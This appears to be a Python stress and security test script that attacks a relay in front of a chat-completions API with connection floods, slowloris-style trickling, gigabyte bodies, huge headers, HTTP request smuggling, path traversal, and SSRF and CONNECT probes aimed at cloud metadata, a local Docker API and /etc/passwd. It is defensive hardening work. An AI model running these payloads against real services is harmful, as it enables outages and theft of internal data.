"""Misuses the model connection: floods, garbage, smuggled and gigantic requests,
crowds of connections, and slowness in both directions."""
import os
import random
import select
import socket
import sys
import threading
import time

from hostile import ARGS, BASE, PATH, RELAY, ask, body, end, found, report, tried

CHAT = PATH + "/chat/completions"


def dial(timeout=20):
    s = socket.socket()
    s.settimeout(timeout)
    s.connect(RELAY)
    return s


def talk(raw, most=1 << 20, timeout=5, shut=False):
    """Sends bytes and returns what comes back."""
    answer = b""
    try:
        s = dial(timeout)
        with s:
            s.sendall(raw)
            if shut:
                s.shutdown(socket.SHUT_WR)
            while len(answer) < most:
                part = s.recv(65536)
                if not part:
                    break
                answer += part
    except OSError:
        pass
    tried()
    return answer


def post(path=CHAT, headers=b"", text=None, method="POST", version="HTTP/1.1"):
    text = body() if text is None else text
    return (("%s %s %s\r\nHost: a\r\nContent-Type: application/json\r\nConnection: close\r\nContent-Length: %d\r\n"
             % (method, path, version, len(text))).encode() + headers + b"\r\n" + text)


def flood():
    """As many bytes as go through, on every connection at once, read or not."""
    held = []
    for i in range(64):
        s = dial()
        size = b"Content-Length: 1000000000000" if i % 2 else b"Transfer-Encoding: chunked"
        s.sendall(b"POST " + CHAT.encode() + b" HTTP/1.1\r\nHost: a\r\n" + size + b"\r\n\r\n")
        s.setblocking(False)
        held.append(s)
        tried()
    report()
    until, block = time.time() + 10, b"10000\r\n" + b"x" * 65536 + b"\r\n"
    while time.time() < until and held:
        _, writable, _ = select.select([], held, [], 1)
        for s in writable:
            try:
                s.send(block)
            except OSError:
                held.remove(s)
                s.close()


def garbage():
    """Bytes at random, and halves of requests."""
    draw = random.Random(5)
    request = post()
    for i in range(300):
        s = None
        try:
            s = dial()
            raw = draw.randbytes(draw.randrange(1, 70_000)) if i % 2 else request[:draw.randrange(len(request))]
            s.sendall(raw)
            if i % 3 == 0:
                s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\x01\0\0\0\0\0\0\0")
            if i % 5 == 0:
                s.shutdown(socket.SHUT_WR)
        except OSError:
            pass
        finally:
            if s:
                s.close()
        tried()
    for raw in (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + os.urandom(500), b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
                b"SSH-2.0-x\r\n", b"\x00" * 100_000, b"\x00\x00\x00\x01" * 1000, b"cabra-relay 1 8017\n",
                b"GET / HTTP/9.9\r\n\r\n", b"\r\n" * 50_000, b"OPTIONS * HTTP/1.1\r\nHost: a\r\n\r\n"):
        if b" 200 " in talk(raw, shut=True)[:20]:
            found("an answer to %r" % raw[:40])


def smuggle():
    """Requests in requests, for other paths, hosts and attempts."""
    inner = b"GET /v1/models HTTP/1.1\r\nHost: a\r\n\r\n"
    cases = [
        post(headers=b"Transfer-Encoding: chunked\r\n"), post(headers=b"Transfer-Encoding: xchunked\r\n"),
        post(headers=b"Content-Length: 3\r\n"), post(headers=b"Content-Length: -1\r\n"),
        post(headers=b"Content-Length : 5\r\n"), post(headers=b"Host: b\r\n"), post(headers=b"X: a\nY: b\r\n"),
        post(headers=b"Expect: 100-continue\r\nExpect: x\r\n"), post(headers=b"Transfer-Encoding: gzip, chunked\r\n"),
        post(headers=b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABk\r\n"),
        post(headers=b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: x\r\nSec-WebSocket-Version: 13\r\n"),
        post("/", text=inner), post("//" + CHAT), post("/.." + CHAT), post("/%2e%2e" + CHAT), post("/v1/chat/completions"),
        post(PATH + "/../v1/models"), post("/0123456789abcdef0123456789abcdef/v1/chat/completions"),
        post("/" + "a" * (len(PATH) - 4) + "/v1/chat/completions"), post(PATH[:-6] + "x/v1/models", method="GET"),
        post("http://169.254.169.254/latest/meta-data/", method="GET"), post("http://127.0.0.1:2375/info", method="GET"),
        post("http://a" + "/v1/models", method="GET"), post("file:///etc/passwd", method="GET"),
        post(CHAT, headers=b"X-Forwarded-Host: 169.254.169.254\r\nX-Original-URL: /v1/models\r\n", method="PUT"),
        post("/debug/pprof/", method="GET"), post("/metrics", method="GET"), post(PATH + "/files", method="GET"),
        post(PATH + "/models/../../x", method="GET"), post(CHAT, method="TRACE"), post(CHAT, method="DELETE"),
        post(PATH + "/embeddings"), post(PATH + "/responses"), post(PATH + "/messages"), post(PATH + "/batches"),
        post("169.254.169.254:80", method="CONNECT"), post("127.0.0.1:22", method="CONNECT"),
        post("api.openai.com:443", method="CONNECT"), post("localhost:2375", method="CONNECT"),
        post("api.github.com:443", headers=b"Proxy-Authorization: Basic eDp4\r\n", method="CONNECT"),
    ]
    for raw in cases:
        answer = talk(raw, timeout=3)
        first = answer.split(b"\r\n", 1)[0]
        asked = raw.split(b"\r\n", 1)[0]
        ours = asked.startswith(b"POST " + CHAT.encode() + b" ") and b"chat.completion" in answer
        if b" 200" in first[:13] and not ours and PATH.encode() + b"/models" not in asked:
            found("%r answers %r" % (asked, first))
        if answer.count(b"HTTP/1.1 200") > 1:
            found("two answers to %r" % raw[:200])
        if b"meta-data" in answer or b"root:" in answer or b"101 Switching" in answer:
            found("%r leads elsewhere" % asked)


def crowd():
    """Connections by the thousand that say nothing, and then as many requests."""
    held = []
    for _ in range(3500):
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex(RELAY)
        held.append(s)
        tried()
    report()
    time.sleep(3)
    for s in held:
        s.close()
    for _ in range(1000):
        s = dial()
        s.sendall(post())
        s.close()
        tried()


def churn():
    """Connections one after another, without end."""
    def run():
        while True:
            try:
                s = dial()
                s.sendall(b"GET /x HTTP/1.1\r\nHost: a\r\n\r\n")
                s.close()
                tried()
            except OSError:
                pass
    for _ in range(16):
        threading.Thread(target=run, daemon=True).start()
    for _ in range(1000):
        time.sleep(0.5)
        report()


def slow():
    """A byte now and then, in requests and in the reading of answers."""
    held = []
    for i in range(60):
        s = dial()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
        s.sendall(post() if i % 3 == 0 else post()[:20 + i] if i % 3 == 1 else post(headers=b"X: ")[:-2 - i])
        held.append(s)
        tried()
    report()
    until = time.time() + 12
    while time.time() < until:
        for s in held:
            try:
                s.send(b"x")
            except OSError:
                pass
        time.sleep(0.5)


def gigabyte():
    """Requests of a gigabyte: announced, in pieces, and of spaces."""
    path = CHAT.encode()
    for size, head in ((b"Content-Length: 1073741824", b""), (b"Transfer-Encoding: chunked", b""),
                       (b"Content-Length: 1073741824", b'{"model":"x","messages":"')):
        chunked = size.startswith(b"T")
        s, sent = dial(60), 0
        try:
            s.sendall(b"POST " + path + b" HTTP/1.1\r\nHost: a\r\n" + size + b"\r\n\r\n" + (b"" if chunked else head))
            block = b" " * (1 << 20)
            while sent < 1 << 30:
                s.sendall(b"100000\r\n" + block + b"\r\n" if chunked else block)
                sent += len(block)
            s.sendall(b"0\r\n\r\n")
            answer = s.recv(100)
        except OSError:
            answer = b""
        s.close()
        tried()
        if b" 200" in answer[:13]:
            found("a request of a gigabyte was taken")


def headers():
    """Headers without end, by number and by length."""
    for raw in (b"X: " + b"a" * (8 << 20) + b"\r\n", b"".join(b"X-%d: a\r\n" % i for i in range(300_000)),
                b"Cookie: " + b"a=b;" * 2_000_000 + b"\r\n"):
        if b" 200" in talk(post(headers=raw))[:13]:
            found("headers of %d bytes were taken" % len(raw))
    for length in (1 << 16, 1 << 20, 8 << 20):
        if b" 200" in talk(post(CHAT + "?" + "a" * length))[:13] and length > 1 << 16:
            found("a line of %d bytes was taken" % length)


def bodies():
    """Bodies that are right JSON and nothing else."""
    for text in (b"[" * 4_000_000 + b"]" * 4_000_000, b'{"model":' * 800_000, b'{"a":1' + b',"a":1' * 1_000_000 + b"}",
                 b'{"model":"' + b"x" * 7_000_000 + b'","messages":[]}', b"9" * 8_000_000, b'"\\ud800"' * 1000,
                 b'{"model":null,"messages":null,"stream":"yes","max_tokens":1e999}', b"\xff" * 1000, b"",
                 b'{"messages":[' + b'{"role":"user","content":"' + b"y" * 7_900_000 + b'"}]}'):
        talk(post(text=text), timeout=30)
    ask()


def requests():
    """Requests without end, from many at once."""
    def run():
        while True:
            try:
                ask()
            except OSError:
                pass
            tried()
    for _ in range(8):
        threading.Thread(target=run, daemon=True).start()
    until = time.time() + 4
    while time.time() < until:
        time.sleep(0.2)
    report()
    time.sleep(1000)


ask()
locals()[ARGS[0]]()
if ARGS[0] not in ("flood", "slow"):
    ask()  # and the connection still works
end()
